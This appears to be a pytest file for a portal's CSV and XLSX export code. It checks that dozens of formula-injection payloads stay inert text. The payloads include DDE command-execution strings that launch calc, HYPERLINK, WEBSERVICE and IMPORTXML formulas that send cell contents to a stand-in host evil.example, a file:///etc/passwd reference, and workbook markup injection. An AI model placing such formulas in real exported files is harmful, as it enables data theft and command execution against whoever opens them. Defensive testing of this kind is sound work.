"""Somebody writes a formula where a name belongs, and waits until a colleague opens the export (E52).

The payloads are those that the OWASP page on CSV injection and reports of broken exports name, and one for the library
that writes the workbooks.
"""

import re

import pytest

from portal.accounts.models import User
from tests.portal.documents.reading import csv_of, lines_of, parts_of, sheet_of, text_in, xlsx_of
from tests.portal.documents.test_cells import runs

# Whoever closes an answer closes the connection that another test left open.
pytestmark = pytest.mark.django_db

PAYLOADS = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "dynamic data exchange": "=cmd|' /C calc'!A0",
    "dynamic data exchange after a sum": "-2+3+cmd|' /C calc'!A0",
    "dynamic data exchange by name": '=DDE("cmd";"/C calc";"a")',
    "at with dynamic data exchange": "@SUM(1+9)*cmd|' /C calc'!A0",
    "plus with dynamic data exchange": "+thespanishinquisition(cmd|' /C calc'!A",
    "rundll": "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "link": '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Error: click for details")',
    "web service": '=WEBSERVICE(CONCATENATE("https://evil.example/",A1))',
    "import": '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "picture": '=IMAGE("https://evil.example/x.png")',
    "file": "='file:///etc/passwd'#$passwd.A1",
    "percent": "=10+20%",
    "space": " =1+1",
    "no-break space": "\u00a0=1+1",
    "ideographic space": "\u3000=1+1",
    "tab": "\t=1+1",
    "tab alone": "\tx",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "vertical tab": "\x0b=1+1",
    "NUL": "\0=1+1",
    "escape": "\x1b=1+1",
    "double quote": '"=1+1',
    "closed quote": '"";=1+1',
    "apostrophe": "'=1+1",
    "typographic quote": "“=1+1",
    "zero width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "right-to-left override": "\u202e=1+1",
    "soft hyphen": "\u00ad=1+1",
    "lone surrogate": "\ud800=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1+1)",
    "small equals": "﹦1+1",
    "superscript minus": "⁻1+1",
    "minus sign": "−1+1",
    "semicolon": "x;=1+1",
    "semicolon and space": "x; =1+1",
    "separators of a table": "x\t=1+1",
    "new row": "x\r\n=1+1",
    "quote, separator, formula": 'x","=1+1',
    "quote, new row, formula": 'x"\r\n=1+1,"',
    "several openings": "+=-@SUM(1+1)",
    "array formula": "{=1+1}",
    "telephone": "+44 20 7946 0000",
    "own markup of the workbook": (
        '<r><t>x</t></r></is></c><c r="B9" t="str"><f>WEBSERVICE("https://evil.example")</f><v>0</v></c>'
        '<c r="C9" t="inlineStr"><is><r><t>y</t></r>'
    ),
    "markup of the workbook": "</t></is></c><c><f>1+1</f></c>",
    "escape of the workbook": "_x003D_1+1",
    "link that writes itself": "https://evil.example/",
    "internal link": "internal:Sheet1!A1",
    "mail link": "mailto:ann@example.test",
}
EACH = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


@EACH
def test_a_formula_in_csv_is_read_as_text(payload):
    lines = lines_of(csv_of([[payload, "beside"]], columns=["Name", payload]))

    assert len(lines) == 3, "the payload broke out of its row"
    assert [len(line) for line in lines] == [1, 2, 2], "the payload broke out of its cell"
    for cell in (lines[1][1], lines[2][0]):
        assert not runs(cell)
        assert not cell.startswith(("\t", "\r", "\n"))


@EACH
def test_a_formula_in_the_title_or_in_the_name_of_who_exports_stays_in_the_first_line(payload):
    changes = {"title": payload, "by": User(full_name=payload), "columns": ["Name"]}

    lines = lines_of(csv_of([["Ann"]], **changes))
    sheet = sheet_of(xlsx_of([["Ann"]], **changes))

    assert lines[1:] == [["Name"], ["Ann"]]
    assert len(lines[0]) == 1
    assert lines[0][0].startswith("OFFICIAL - Staff security portal - ")
    assert not runs(lines[0][0])
    assert sheet.dimensions == "A1:A3"
    assert {cell.data_type for (cell,) in sheet.iter_rows()} == {"s"}


@EACH
def test_a_formula_in_a_workbook_is_text(payload):
    parts = parts_of(xlsx_of([[payload, "beside"]], columns=["Name", payload]))
    sheet = sheet_of(xlsx_of([[payload, "beside"]], columns=["Name", payload]))

    assert sheet.dimensions == "A1:B3"
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} == {"s"}
    assert text_in(sheet["A3"]) == text_in(sheet["B2"])
    assert sheet["B3"].value == "beside"
    assert not re.search(r"<f[ >]|<hyperlink|<r>", parts["xl/worksheets/sheet1.xml"])
    assert not [name for name in parts if "external" in name.lower() or name.endswith("sheet1.xml.rels")]


@EACH
def test_a_formula_in_the_marking_is_printed_as_text(payload):
    sheet = sheet_of(xlsx_of([["Ann"]], marking=payload))

    assert sheet["A1"].data_type == "s"
    assert not runs(lines_of(csv_of([["Ann"]], marking=payload))[0][0])
